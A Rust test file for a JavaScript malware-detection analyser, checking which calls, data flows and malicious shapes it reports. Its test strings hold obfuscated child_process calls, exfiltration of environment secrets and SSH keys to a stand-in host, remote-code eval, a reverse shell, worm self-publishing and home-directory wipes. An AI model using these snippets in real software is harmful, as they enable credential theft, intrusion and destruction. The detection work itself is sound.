//! One line per trick: what it must give, and what must give nothing.

use super::parse;
use crate::model::{FactKind, Treatment};

fn calls_in(path: &str, code: &str) -> Vec<String> {
    let parsed = parse(path, code);
    assert!(matches!(parsed.treatment, Treatment::Parsed(_)), "{code}: {:?}", parsed.facts);
    let calls = parsed.facts.iter().filter(|fact| fact.kind == FactKind::Call);
    calls
        .map(|fact| {
            if fact.value.is_empty() {
                fact.name.clone()
            } else {
                format!("{}({})", fact.name, fact.value.replace('\u{1f}', ", "))
            }
        })
        .collect()
}

fn calls(code: &str) -> Vec<String> {
    calls_in("a.js", code)
}

fn of(kind: FactKind, code: &str) -> Vec<(String, String)> {
    let parsed = parse("a.js", code);
    let facts = parsed.facts.into_iter().filter(|fact| fact.kind == kind);
    facts.map(|fact| (fact.name, fact.value)).collect()
}

/// Whether a program has a fact of that name.
pub(super) fn has(source: &str, name: &str) -> bool {
    parse("index.js", source).facts.iter().any(|fact| fact.name == name)
}

#[test]
fn names_are_found_behind_every_trick() {
    let exec = "node:child_process.exec(ls)";
    let cases: &[(&str, &str)] = &[
        ("require('child_process').exec('ls')", exec),
        ("require('node:child_process').exec('ls')", exec),
        ("require('child_' + 'process')['ex' + 'ec']('ls')", exec),
        ("require(`child_${'process'}`).exec('ls')", exec),
        ("require(['child','process'].join('_')).exec('ls')", exec),
        ("require('ssecorp_dlihc'.split('').reverse().join('')).exec('ls')", exec),
        ("require('child-process'.replace('-', '_')).exec('ls')", exec),
        ("require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec('ls')", exec),
        ("require(Buffer.from('6368696c645f70726f63657373', 'hex').toString('utf8')).exec('ls')", exec),
        ("require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('ls')", exec),
        ("require('\\x63hild_process').exec('\\x6cs')", exec),
        ("require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec('ls')", exec),
        ("require(decodeURIComponent('child%5Fprocess')).exec('ls')", exec),
        ("require([1,0].map(i => ['process','child_'][i]).join('')).exec('ls')", exec),
        ("const cp = require('child_process'); cp.exec('ls')", exec),
        ("var cp; cp = require('child_process'); cp.exec('ls')", exec),
        ("const f = require('child_process')['ex'+'ec']; f('ls')", exec),
        ("const { exec: run } = require('child_process'); run('ls')", exec),
        (
            "const { ['ex' + 'ec']: run } = require('child_process'); require('child_process').exec('ls')",
            exec,
        ),
        ("import { exec as run } from 'child_process'; run('ls')", exec),
        ("import * as cp from 'node:child_process'; cp.exec('ls')", exec),
        ("import cp from 'child_process'; cp.exec('ls')", exec),
        ("import cp from 'child_process'; cp.default.exec('ls')", exec),
        ("(await import('child_process')).exec('ls')", exec),
        ("module.require('child_process').exec('ls')", exec),
        ("process.mainModule.require('child_process').exec('ls')", exec),
        ("require.main.require('child_process').exec('ls')", exec),
        ("globalThis.require('child_process').exec('ls')", exec),
        ("global['req' + 'uire']('child_process').exec('ls')", exec),
        (
            "import { createRequire } from 'module'; const r = createRequire(import.meta.url); r('child_process').exec('ls')",
            exec,
        ),
        ("const r = require; r('child_process').exec('ls')", exec),
        ("(0, require('child_process').exec)('ls')", exec),
        ("require('child_process').exec.call(null, 'ls')", exec),
        ("const run = require('child_process').exec.bind(null); run('ls')", exec),
        ("Reflect.apply(require('child_process').exec, null, ['ls'])", exec),
        ("Reflect.get(require('child_process'), 'exec')('ls')", exec),
        ("const { promisify } = require('util'); promisify(require('child_process').exec)('ls')", exec),
        ("var c = __importDefault(require('child_process')); c.default.exec('ls')", exec),
        ("(function (r) { r('child_process').exec('ls') })(require)", exec),
        ("bundle({1: [function (require, module, exports) { require('child_process').exec('ls') }]})", exec),
        ("class A { cp = require('child_process'); go() { this.cp.exec('ls') } }", exec),
        ("function A() { this.cp = require('child_process'); this.cp.exec('ls') }", exec),
        ("const get = () => require('child_process'); get().exec('ls')", exec),
        (
            "const dec = s => Buffer.from(s, 'base64').toString(); require(dec('Y2hpbGRfcHJvY2Vzcw==')).exec('ls')",
            exec,
        ),
        ("const names = ['fs', 'child_process']; require(names[1]).exec('ls')", exec),
        ("const o = { m: 'child_process' }; require(o.m).exec('ls')", exec),
        ("const o = {}; o.cp = require('child_process'); o.cp.exec('ls')", exec),
        ("let cp; try { cp = require('child_process') } catch {} cp.exec('ls')", exec),
        ("require('child_process')?.exec?.('ls')", exec),
        ("require(\"child_process\").exec(['l', 's'].join(''))", exec),
        ("eval('require')('child_process').exec('ls')", exec),
        ("Function('return this')().require('child_process').exec('ls')", exec),
        ("process.getBuiltinModule('child_process').exec('ls')", exec),
        ("(0, eval)('1')", "global.eval(1)"),
        ("globalThis['ev' + 'al']('1')", "global.eval(1)"),
        ("new Function('a', 'return a')", "global.Function(a, return a)"),
        ("[].constructor.constructor('x()')()", "global.Function(x())"),
        ("(() => {}).constructor('x()')()", "global.Function(x())"),
        ("setTimeout('go()', 1)", "global.setTimeout(go(), 1)"),
        ("require(x)", "require(dynamic)(?)"),
        ("require('./locale/' + x)", "require(dynamic-local)(./locale/?)"),
        ("import(x)", "import(dynamic)(?)"),
        ("require('./a.node')", "require(.node)(./a.node)"),
        ("fetch('https://a.invalid')", "global.fetch(https://a.invalid)"),
        ("const { env } = process; f(env.TOKEN)", "global.process.env.TOKEN"),
        ("f(process['env']['TOKEN'])", "global.process.env.TOKEN"),
        ("module.exports = require('child_process')", "node:child_process"),
        ("export { exec } from 'child_process'", "node:child_process.exec"),
        ("list.map(require('child_process').exec)", "node:child_process.exec"),
        ("require('fs/promises').writeFile('a', b)", "node:fs.promises.writeFile(a, ?)"),
    ];
    for (code, expected) in cases {
        assert!(calls(code).iter().any(|call| call == expected), "{code}\n  gives {:?}", calls(code));
    }
}

#[test]
fn typescript_is_resolved_too() {
    let code = "import cp = require('child_process'); (cp as any).exec!('ls' as string)";
    assert_eq!(calls_in("a.ts", code), ["node:child_process.exec(ls)"]);
}

#[test]
fn what_only_looks_like_a_use_gives_nothing() {
    let cases = [
        "function f(require) { require('child_process').exec('ls') }",
        "const eval2 = x => x; eval2('1')",
        "function g(fetch) { fetch('x') }",
        "// require('child_process').exec('ls')",
        "const s = \"require('child_process').exec('ls')\"",
        "const process = { env: {} }; f(process.env)",
        "import { Router } from 'express'; class fetch {} new fetch()",
        "typeof fetch === 'function'",
        "const path = require('path'); path.join('a', 'b')",
        "o.eval('x'); o.fetch('y'); o.exec('z')",
        "const cp = require('child_process')",
        "setTimeout(() => {}, 1)",
        "require('fs').constants.F_OK",
        "/x/.exec('y')",
        "const fs = {}; fs.writeFile('a')",
    ];
    for code in cases {
        assert_eq!(calls(code), Vec::<String>::new(), "{code}");
    }
}

#[test]
fn types_import_nothing() {
    let parsed =
        parse("a.ts", "import type { A } from 'child_process'; import { type B } from 'net'; let a: A");
    assert_eq!(parsed.facts, []);
}

#[test]
fn imports_are_resolved_against_the_folder() {
    let parsed =
        parse("lib/a.js", "require('./b'); import('../c.js'); require('left-pad'); export * from '../../d'");
    let names: Vec<_> = parsed.facts.iter().map(|fact| fact.name.as_str()).collect();
    assert_eq!(names, ["./lib/b", "./c.js", "left-pad", "./../d"]);
    assert_eq!(parsed.local, ["../d", "c.js", "lib/b"]);
    assert_eq!(parsed.exports, 1);
}

#[test]
fn what_runs_on_loading_is_told_from_what_waits() {
    let code = "fetch('1'); function f() { fetch('2') } function g() { fetch('3') } f();
        (() => { fetch('4') })(); x.on('y', () => fetch('5'));";
    let parsed = parse("a.js", code);
    let calls = parsed.facts.iter().filter(|fact| fact.kind == FactKind::Call);
    let loaded: Vec<_> = calls.map(|fact| (fact.value.as_str(), fact.context.top_level)).collect();
    assert_eq!(loaded, [("1", true), ("2", true), ("3", false), ("4", true), ("5", false)]);
}

#[test]
fn strings_that_matter_are_reported_folded() {
    let code =
        "const a = 'https://' + 'x.invalid' + '/p'; const p = path.join(os.homedir(), '.ssh', 'id_rsa');
        const path = require('path'), os = require('os'); exec2('hello')";
    let literals = of(FactKind::Literal, code);
    assert_eq!(
        literals,
        [("url".into(), "https://x.invalid/p".into()), ("path".to_owned(), "~/.ssh/id_rsa".to_owned())]
    );
    let literals = of(FactKind::Literal, "require('child_process').spawn('sh', ['-c', 'id ' + x])");
    assert_eq!(literals, [("command".to_owned(), "sh -c id ?".to_owned())]);
}

#[test]
fn layers_of_encoding_are_taken_off() {
    // require('child_process').exec('id')
    let code = "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=', 'base64').toString())";
    let parsed = parse("a.js", code);
    let fact = parsed.facts.iter().find(|fact| fact.name == "node:child_process.exec").expect("decoded");
    assert_eq!((fact.context.layer, fact.value.as_str(), fact.span.line), (1, "id", 1));
}

#[test]
fn lines_and_exports_are_counted() {
    let parsed =
        parse("a.js", "// a\n\n/* b\n c */ var x;\nexports.a = 1; /* d */\nmodule.exports = { b, c }\n");
    assert_eq!((parsed.code_lines, parsed.exports), (3, 3));
}

#[test]
fn a_file_that_does_not_parse_is_text_and_says_so() {
    let parsed = parse("a.js", "let = = 1;");
    assert_eq!(parsed.treatment, Treatment::Text);
    assert_eq!(parsed.facts[0].name, "unparsed");
    for (path, code) in [
        ("a.js", "#!/usr/bin/env node\nreturn 1"),
        ("a.js", "var a = 010; with (a) {}"),
        ("a.js", "const a = <div>{b}</div>"),
        ("a.js", "function f(a: number): string { return '' }"),
        ("a.cjs", "await = 1"),
        ("a.mjs", "await f()"),
        ("a.d.ts", "declare const a: string;"),
        ("a.tsx", "const a = <A<string> b />"),
    ] {
        assert!(
            matches!(parse(path, code).treatment, Treatment::Parsed(_)),
            "{code}: {:?}",
            parse(path, code).facts
        );
    }
}

fn flows(code: &str) -> Vec<String> {
    of(FactKind::Flow, code).into_iter().map(|(name, _)| name).collect()
}

#[test]
fn what_flows_is_followed() {
    let cases: &[(&str, &[&str])] = &[
        ("fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })", &["env-all->net"]),
        ("const e = process.env; const b = JSON.stringify({ e }); fetch('https://a.invalid?' + b)", &["env-all->net"]),
        ("const { NPM_TOKEN } = process.env; fetch('https://a.invalid/' + NPM_TOKEN)", &["env-secret->net"]),
        ("fetch(process.env.NODE_ENV)", &["env->net"]),
        (
            "const https = require('https'), os = require('os'); const r = https.request({ host: 'a.invalid' }); r.write(os.hostname()); r.end()",
            &["host-info->net"],
        ),
        (
            "const fs = require('fs'), os = require('os'), path = require('path');
             const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); fetch('https://a.invalid', { body: key })",
            &["secret-file->net"],
        ),
        ("fetch('https://a.invalid').then(r => r.text()).then(t => eval(t))", &["net->dynamic-code"]),
        ("const r = await fetch('https://a.invalid'); const t = await r.text(); new Function(t)()", &["net->dynamic-code"]),
        (
            "require('https').get('https://a.invalid', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)) })",
            &["net->dynamic-code"],
        ),
        ("eval(Buffer.from(x, 'base64').toString())", &["decoded->dynamic-code"]),
        ("eval(atob(x))", &["decoded->dynamic-code"]),
        ("const cp = require('child_process'); fetch('https://a.invalid').then(async r => cp.exec(await r.text()))", &["net->process"]),
        ("require('https').get('https://a.invalid', r => r.pipe(require('fs').createWriteStream('x')))", &["net->fs-write"]),
        ("function send(d) { fetch('https://a.invalid', { body: d }) } send(JSON.stringify(process.env))", &["env-all->net"]),
        ("function get() { return process.env } fetch('https://a.invalid', { body: get() })", &["env-all->net"]),
        ("require('fs').readFile('/root/.npmrc', (e, d) => fetch('https://a.invalid', { body: d }))", &["secret-file->net"]),
        ("require('dns').lookup(require('os').hostname() + '.a.invalid')", &["host-info->net"]),
        ("const out = []; out.push(process.env); fetch('https://a.invalid', { body: out })", &["env-all->net"]),
    ];
    for (code, expected) in cases {
        let found = flows(code);
        assert!(expected.iter().all(|flow| found.iter().any(|f| f == flow)), "{code}\n  gives {found:?}");
    }
}

#[test]
fn a_token_that_is_shown_to_a_server_of_the_users_own() {
    let client = "const fs = require('fs'), path = require('path');
        class Registry { constructor(url, root) { this.url = url; this.token = Registry.file(path.join(root, '.npmrc')); }
          static file(f) { return fs.readFileSync(f, 'utf8').match(/_authToken=(.+)/)?.[1]; }
          async get(route) { HEADERS; return fetch(TO, SENT); } }";
    let own = "this.url + route";
    for (headers, to, sent, harm) in [
        ("const headers = { authorization: `Bearer ${this.token}` }", own, "{ headers }", false),
        (
            "const headers = this.token ? { Authorization: 'Bearer ' + this.token } : {}",
            own,
            "{ headers }",
            false,
        ),
        ("", own, "{ headers: { authorization: this.token } }", false),
        ("", "'https://a.invalid/' + route", "{ headers: { authorization: this.token } }", true),
        ("", "'https://a.invalid' + route", "{ headers: { authorization: this.token } }", true),
        ("", "`https://a.invalid${route}`", "{ headers: { authorization: this.token } }", true),
        ("", own, "{ method: 'POST', body: this.token }", true),
        ("", own, "{ headers: { 'x-note': this.token } }", true),
    ] {
        let code = client.replace("HEADERS", headers).replace("TO", to).replace("SENT", sent);
        assert_eq!(flows(&code).iter().any(|flow| flow == "secret-file->net"), harm, "{code}");
    }
}

/// A function that picks what it names out of an environment that it is given.
#[test]
fn one_variable_of_a_given_environment_is_not_all_of_it() {
    for code in [
        "function s(env = process.env) { return { token: env.TOKEN, from: env.FROM }; } fetch('https://a.invalid', { body: JSON.stringify(s()) })",
        "const s = (env) => ({ token: env.TOKEN }); fetch('https://a.invalid', { headers: s(process.env) })",
        "class C { constructor({ token }) { this.token = token; } send() { fetch('https://a.invalid', { body: this.token }); } }
         const s = (env = process.env) => ({ token: env.T }); new C(s()).send();",
        "const T = [{ is: (e) => e.CI, map: (e) => ({ sha: e.SHA }) }]; const t = T.find((p) => p.is(x));
         fetch('https://a.invalid', { body: JSON.stringify({ ...t.map(process.env) }) })",
    ] {
        let found = flows(code);
        assert!(!found.iter().any(|flow| flow == "env-all->net"), "{code}\n  gives {found:?}");
    }
    for code in [
        "function s(env = process.env) { return { env, from: env.FROM }; } fetch('https://a.invalid', { body: JSON.stringify(s()) })",
        "const s = (e) => ({ ...e, at: 1 }); fetch('https://a.invalid', { body: JSON.stringify(s(process.env)) })",
        "const s = (e) => Object.keys(e).map((k) => k + e[k]).join(); fetch('https://a.invalid', { body: s(process.env) })",
    ] {
        let found = flows(code);
        assert!(found.iter().any(|flow| flow == "env-all->net"), "{code}\n  gives {found:?}");
    }
}

#[test]
fn what_does_not_flow_is_not_reported() {
    for code in [
        "require('child_process').spawn('ls', [], { env: process.env })",
        "require('child_process').spawn('ls', { env: { ...process.env } })",
        "const o = { env: process.env, url: 'https://a.invalid' }; fetch(o.url)",
        "const e = process.env; fetch('https://a.invalid')",
        "const cfg = load(process.env); fetch(cfg.url)",
        "fetch('https://a.invalid').then(r => r.json())",
        "if (process.env.CI) fetch('https://a.invalid')",
        "eval('1 + 1')",
    ] {
        assert_eq!(flows(code), Vec::<String>::new(), "{code}");
    }
}

fn shapes(code: &str) -> Vec<String> {
    let parsed = parse("a.js", code);
    let facts = parsed.facts.into_iter().filter(|f| matches!(f.kind, FactKind::Shape | FactKind::Guard));
    facts.map(|fact| fact.name).collect()
}

#[test]
fn shapes_and_guards_are_seen() {
    let cases: &[(&str, &str)] = &[
        ("if (Date.now() > 1800000000000) { fetch('https://a.invalid') }", "time-bomb"),
        (
            "const now = new Date(); if (now.getTime() >= new Date('2027-01-01').getTime()) require('child_process').exec('ls')",
            "time-bomb",
        ),
        (
            "function f() { if (new Date() < new Date(2027, 1, 1)) return; fetch('https://a.invalid') }",
            "time-bomb",
        ),
        ("new Date().getFullYear() >= 2027 && eval(x)", "time-bomb"),
        (
            "if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Minsk') require('fs').writeFileSync(x, '')",
            "geo",
        ),
        ("if (d.country_name.toLowerCase().includes('russia')) require('fs').writeFileSync(x, '')", "geo"),
        ("if (require('os').hostname() !== 'DESKTOP-1') require('child_process').exec('ls')", "host"),
        ("const f = window.fetch; window.fetch = function (a) { return f(a) }", "prototype-hook"),
        ("window.ethereum.request = async a => g(a)", "wallet-hook"),
        (
            "const r = /0x[a-fA-F0-9]{40}/g; globalThis.fetch = async (...a) => g(a).replace(r, mine)",
            "wallet-hook",
        ),
        (
            "const n = require('net'), c = require('child_process'); const s = n.connect(1, 'a.invalid'); const p = c.spawn('/bin/sh', []); s.pipe(p.stdin)",
            "reverse-shell",
        ),
        ("require('fs').rmSync(require('os').homedir(), { recursive: true })", "destructive-walk"),
        (
            "require('child_process').execSync('npm publish'); f(process.env.NPM_TOKEN); require('fs').writeFileSync('package.json', x)",
            "worm",
        ),
        ("require('fs').writeFileSync('.github/workflows/x.yml', y)", "worm"),
        (
            "const fs = require('fs'), { execFileSync } = require('child_process');
             for (const name of mine) { m.version = bump(m.version, 'patch'); m.scripts = { ...m.scripts, postinstall: 'x patch' }; fs.writeFileSync(at, JSON.stringify(m)); execFileSync('npm', ['publish', '--registry', url], { cwd: dir }); }",
            "worm",
        ),
        (
            "export const all = [{ file: '.github/workflows/d.yaml', text: ['ALL: ${{ toJSON(secrets) }}', 'run: echo ${{ github.event.discussion.body }}'] }]",
            "worm",
        ),
        (
            "const fs = require('fs'), path = require('path'); const u = (s) => Buffer.from(s, 'base64').toString('utf8');
             function settle(dir, mark) { for (const n of fs.readdirSync(dir)) { const p = path.join(dir, n);
               if (fs.lstatSync(p).isDirectory()) settle(p, mark); else fs.writeFile(p, mark, () => {}); } }
             settle(process.cwd(), u('4p2k77iP')); [a, b].forEach((d) => settle(d, 'x'));",
            "destructive-walk",
        ),
        (
            "import { readdir, truncate } from 'node:fs/promises'; import { join } from 'node:path';
             const go = async (dir) => { for (const e of await readdir(dir, { withFileTypes: true })) { const p = join(dir, e.name);
               if (e.isDirectory()) await go(p); else await truncate(p).catch(() => {}); } }; go('..');",
            "destructive-walk",
        ),
        (
            "const { walk } = require('./walk'), fs = require('fs'), { homedir } = require('os');
             for (const f of walk(homedir())) fs.writeFile(f, 'x', () => {});",
            "destructive-walk",
        ),
        (
            "const { walk } = require('./walk'), fs = require('fs/promises'), os = require('os');
             (async () => { for (const f of await walk(os.homedir())) { try { await fs.unlink(f); } catch {} } })();",
            "destructive-walk",
        ),
        (
            "const garble = require('./garble'); for (let i = 666; i < Infinity; i++) { if (i % 3 === 0) console.log('a'); console.log(garble(`x ${i}`)); }",
            "endless-loop",
        ),
        ("eval(function(p,a,c,k,e,d){return p}('x',1,1,''.split('|'),0,{}))", "packed-eval"),
    ];
    for (code, expected) in cases {
        assert!(shapes(code).iter().any(|name| name == expected), "{code}\n  gives {:?}", shapes(code));
    }
    let names: String = (0x1000..0x1020).map(|n| format!("var _0x{n:x}=1;")).collect();
    assert_eq!(shapes(&names), ["obfuscator-array"]);
}

#[test]
fn honest_conditions_and_assignments_are_no_shapes() {
    for code in [
        "if (Date.now() - start > 5000) fetch('https://a.invalid')",
        "if (Date.now() > expires) fetch('https://a.invalid')",
        "if (new Date() > new Date('2027-01-01')) console.log('happy new year')",
        "if (user.country === 'DE') fetch('https://a.invalid')",
        "globalThis.fetch = globalThis.fetch || require('node-fetch')",
        "exports.fetch = function () {}",
        "require('child_process').spawn('sh', ['-c', 'ls']); require('net').connect(1).pipe(x)",
        "require('fs').rmSync(path.join(require('os').homedir(), '.cache', 'x'))",
        "require('child_process').exec('npm install')",
        "var _0x1234 = 1",
        // What is written depends on the file, or on who calls.
        "const fs = require('fs'), path = require('path');
         function tidy(dir, text) { for (const n of fs.readdirSync(dir)) { const p = path.join(dir, n);
           if (fs.statSync(p).isDirectory()) tidy(p, text); else fs.writeFileSync(p, text); } } exports.tidy = tidy;",
        "const fs = require('fs'), path = require('path'); const make = (kind) => render(kind);
         function each(dir) { for (const n of fs.readdirSync(dir)) { const p = path.join(dir, n);
           if (fs.statSync(p).isDirectory()) each(p); else if (n === 'a.md') fs.writeFileSync(p, make('readme')); } } each(x);",
        "const { walk } = require('./walk'), fs = require('fs'), { homedir } = require('os');
         for (const f of walk(homedir())) if (f.endsWith('.tmp')) fs.unlinkSync(f);",
        "const { walk } = require('./walk'), fs = require('fs'); for (const f of walk('dist')) fs.unlinkSync(f);",
        "import { readFileSync, writeFileSync } from 'node:fs'; const pkg = JSON.parse(readFileSync('package.json', 'utf8'));
         pkg.version = process.argv[2]; pkg.scripts = { postinstall: 'node install.js' }; writeFileSync('dist/package.json', JSON.stringify(pkg));",
        "const { scripts } = m; delete scripts.postinstall; m.scripts.postinstall = undefined; m.scripts = { ...m.scripts, build: 'tsc' };
         require('fs').writeFileSync(at, JSON.stringify(m));",
        // Loops that talk with somebody.
        "for (;;) console.log(run(ask('> ')));",
        "exports.run = () => { for (let i = 0; i < Infinity; i++) console.log(step(i)); };",
        "const TEXT = 'SECRETS: ${{ toJSON(secrets) }}'; const at = '.github/workflows/ci.yml'; const run = 'run: npm test';",
    ] {
        assert_eq!(shapes(code), Vec::<String>::new(), "{code}");
    }
}
